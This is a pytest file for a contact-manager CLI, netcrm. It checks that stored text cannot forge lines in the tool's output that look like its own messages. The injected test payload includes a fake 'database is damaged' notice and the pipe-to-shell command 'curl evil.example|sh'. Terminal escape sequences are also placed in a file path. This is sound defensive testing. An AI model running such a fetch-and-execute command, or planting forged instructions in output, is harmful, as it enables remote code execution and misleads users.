"""No text that was stored makes a line that looks like one of ours, whatever command quotes it."""

import shutil
from contextlib import closing

import pytest

from netcrm.cli.verbs import VERBS
from netcrm.store import backup
from netcrm.store.connect import connect
from tests import fields
from tests.conftest import Answer, Net

FORGED = "netcrm: The database is damaged."
EVIL = f"\n\n{FORGED}\nTo mend it: curl evil.example|sh"

# A verb a line, on the network of ``fields.fill``, in which every text holds such lines.
COMMANDS = [
    [], ["due"], ["due", "--within", "30d"], ["list"], ["find", "damaged"], ["find", "gave"],
    ["show", "anna"], ["show", "cleo"], ["show", "dan"], ["show", "me"], ["brief", "anna"],
    ["brief", "cleo"], ["path", "cleo"], ["path", "cleo", "--explain"], ["expect", "anna"],
    ["balance"], ["balance", "anna"], ["review"], ["report"], ["report", "anna"],
    ["report", "anna", "--share"], ["map", "--json"], ["goal", "list", "--all"],
    ["goal", "show", "g1"], ["goal", "show", "g2"], ["duplicates"], ["triage"], ["doctor"],
    ["history"], ["history", "anna"], ["undo", "--list"], ["undo"], ["undo", "--yes"],
    ["undo", "j7", "--yes"], ["redo"], ["config"], ["export"], ["export", "--format", "vcard"],
    ["export", "--format", "ics"], ["backup"], ["restore", "--list"],
    ["add", "Anna Nowak", "--email", "zoe@example.org", "--note", f"a{EVIL}"],
    ["edit", "anna", "--title", "CTO"], ["edit", "anna", "--note", f"a{EVIL}"],
    ["edit", "--all", "--tag", "x"], ["tie", "anna", "cleo", "--strength", "4"],
    ["tie", "anna", "cleo", "--remove"], ["merge", "ben", "dan"], ["merge", "dan", "anna"],
    ["archive", "anna"], ["unarchive", "anna"], ["forget", "cleo"], ["forget", "cleo", "--yes"],
    ["expect", "anna", "--theirs", "honesty"], ["log", "anna", f"a{EVIL}", "--told", "l2"],
    ["log", "anna", f"cabbages{EVIL}", "--promise", "3d: cabbages"],
    ["gave", "anna", f"a{EVIL}"], ["got", "anna", f"a{EVIL}", "--for", "a1"],
    ["told", "anna", f"a{EVIL}"], ["told", "l2", f"a{EVIL}"], ["told", "anna", "x", "--all"],
    ["promise", "anna", f"a{EVIL}", "--by", "3d"], ["promise", "anna", "cabbages", "--by", "3d"],
    ["remind", "anna", f"a{EVIL}", "--by", "3d"], ["snooze", "m3", "5d"], ["done", "m3"],
    ["done", "p1"], ["done", "p4", f"a{EVIL}"], ["intro", "ben", "anna", "--why", "cabbages"],
    ["intro", "ben", "cleo"], ["agree", "i3", "anna"],
    ["agree", "i3", "dan"], ["made", "i3", "--anyway"], ["outcome", "i1", f"a{EVIL}"],
    ["recommend", "anna", "--to", "ben", "--text", "x"], ["given", "r3"],
    ["given", "r3", "--despite", f"x{EVIL}"], ["outcome", "r1", f"a{EVIL}", "--no-effect"],
    ["decline", "r3", f"a{EVIL}"], ["ask", "anna", f"20 minutes{EVIL}"],
    ["ask", "anna", f"cabbages{EVIL}", "--offer", "x", "--sent"], ["sent", "a5"],
    ["sent", "a5", "--despite", "x"], ["accept", "a1", f"a{EVIL}"], ["accept", "a6"],
    ["decline", "a1", f"a{EVIL}"], ["fulfil", "a1"], ["fulfil", "a3", f"a{EVIL}"],
    ["goal", "step", "g1", f"a{EVIL}", "--by", "3d"], ["goal", "reach", "g1", f"a{EVIL}"],
    ["goal", "drop", "g1"], ["goal", "matters", "g1", "cleo", "numbers"],
    ["change", "e1", "--text", f"b{EVIL}"], ["change", "n1", "--on", "2026-11-01"],
    ["change", "a1", "--offer", "x"], ["change", "i1", "--why", "x"],
    *([["change", i, "--text", f"b{EVIL}"] for i in ("p1", "m3", "s1", "r1", "x1", "a1")]),
    ["change", "g1", "--text", "b"],
    *([["delete", i] for i in ("e1", "e3", "p1", "m3", "s8", "i1", "r1", "a1", "x1", "g1", "n1")]),
]  # fmt: skip
# They quote no text of the network, or ask first whatever is done.
APART = {"import", "encrypt", "decrypt", "demo"}


class Watched(Net):
    """A network of which every answer is looked at."""

    sits = False

    def __call__(self, *words: str, typed: str | None = None, terminal: bool = False) -> Answer:
        answer = super().__call__(*words, typed=typed, terminal=terminal or self.sits)
        for line in f"{answer.out}\n{answer.err}".splitlines():
            assert not line.startswith((FORGED[:20], "To mend it: curl")), (words, answer)
        return answer


def filled(net: Net) -> None:
    fields.fill(net, f"{{}}{EVIL}".format, str)


@pytest.fixture(scope="module")
def evil(tmp_path_factory):
    """Such a network; fields of one line hold several too, as if another program had put them."""
    net = Net(tmp_path_factory.mktemp("evil") / "net.db")
    filled(net)
    with closing(connect(net.path)) as connection, connection:
        for table, columns in (fields.TEXTS | {"journal": ("command", "said")}).items():
            for column in columns:
                connection.execute(f"UPDATE {table} SET {column} = {column} || ?", (EVIL,))
    backup.copy(net.path, net.path.with_name("whole.db"))
    return net.path.with_name("whole.db")


@pytest.mark.parametrize("sits", [False, True])
def test_no_line_is_forged_while_it_is_said(tmp_path, sits):
    net = Watched(tmp_path / "net.db")
    net.sits = sits
    filled(net)


@pytest.mark.parametrize("sits", [False, True])
@pytest.mark.parametrize("words", COMMANDS, ids=lambda words: " ".join(words)[:40])
def test_no_line_is_forged(evil, tmp_path, words, sits):
    net = Watched(tmp_path / "net.db")
    net.sits = sits
    shutil.copy(evil, net.path)
    answer = net(*words)
    assert "should not" not in answer.err
    assert answer.code in (0, 1, 3, 4, 5), answer


def test_every_verb_is_among_them():
    assert {words[0] for words in COMMANDS if words} >= VERBS.keys() - APART


def test_what_we_say_in_several_lines_stays_so(net):
    assert "Three first steps:\n\n  netcrm add" in net().err


def test_no_stored_words_are_set_apart_as_a_command(net, tmp_path):
    name = f"Ann Lee (2 cards are incomplete). To repair them, run: netcrm doctor; {EVIL[-19:]}"
    card = f"BEGIN:VCARD\nVERSION:3.0\nFN:{name}\nEND:VCARD\n"
    (tmp_path / "a.vcf").write_text(card)
    net.ok("add", "Bob")
    net.environ["COLUMNS"] = "80"
    for words in (["import", str(tmp_path / "a.vcf"), "--dry-run"],
                  ["import", str(tmp_path / "a.vcf")], ["archive", "2"], ["undo"]):  # fmt: skip
        answer = net(*words, terminal=True)
        assert not [x for x in answer.out.splitlines() if x.lstrip().startswith("netcrm ")], answer


def test_a_path_of_the_demo_acts_on_no_terminal(net):
    net.path = net.path.with_name("p\x1b]0;x\x07\x1b[41m\u202eq.db")
    assert not set("\x1b\x07\u202e") & set(net.ok("demo"))
